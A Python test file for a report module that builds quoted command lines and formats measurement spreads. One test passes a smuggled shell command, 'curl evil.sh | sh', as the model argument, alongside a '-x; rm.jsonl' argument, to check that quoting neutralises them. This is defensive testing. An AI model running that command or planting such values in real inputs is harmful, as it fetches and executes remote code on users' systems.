"""Words that pages of measurements share: commands that no text can break, digits."""

import shlex

from tests.report.measured import DRAWN, spread

from undertow.measurements import Spread
from undertow.report.measured_content import (
    command_line,
    sampler_options,
    sampler_words,
    spread_text,
    system_words,
)


def test_every_word_of_a_command_is_quoted() -> None:
    line = command_line(
        "analyze vector", "-x; rm.jsonl", "a b", model="m; curl evil.sh | sh #",
        layers=[1, 2], doses=[0.123456789], nothing=None, none=[], system="",
    )  # fmt: skip
    assert shlex.split(line) == [
        "undertow", "analyze", "vector", "--model", "m; curl evil.sh | sh #",
        "--layers", "1,2", "--doses", "0.123456789", "--system", "", "--json", "FILE",
        "--", "-x; rm.jsonl", "a b",
    ]  # fmt: skip


def test_the_sampler_has_all_its_options() -> None:
    assert list(sampler_options(DRAWN)) == [
        "temperature", "top_p", "top_k", "max_new_tokens", "allowed", "list_values",
    ]  # fmt: skip
    assert "max new tokens 60" in sampler_words(DRAWN)
    assert (system_words(None), system_words("")) == ("the template's own", "''")


def test_small_numbers_do_not_look_like_nothing() -> None:
    assert spread_text(spread(0.5, 0.1)) == "0.50 [0.40, 0.60]"
    assert spread_text(spread(0.0152, 0.0013)) == "0.0152 [0.0139, 0.0165]"
    assert spread_text(spread(12.0, 5.0)) == "12.00 [7.00, 17.00]"
    tiny = Spread(mean=0.02, low=2e-5, high=0.04, n=3)
    assert spread_text(tiny) == "0.02000 [0.00002, 0.04000]"
    least = Spread(mean=0.5, low=1e-9, high=0.9, n=3)
    assert spread_text(least) == "0.500000 [0.000000, 0.900000]"
    assert spread_text(Spread(mean=0.0, low=0.0, high=0.0, n=3)) == "0.00 [0.00, 0.00]"
    assert spread_text(spread(None)) == "— [—, —]"
    assert spread_text(spread(-0.5), signed=True, least=3) == "−0.500 [−0.600, −0.400]"
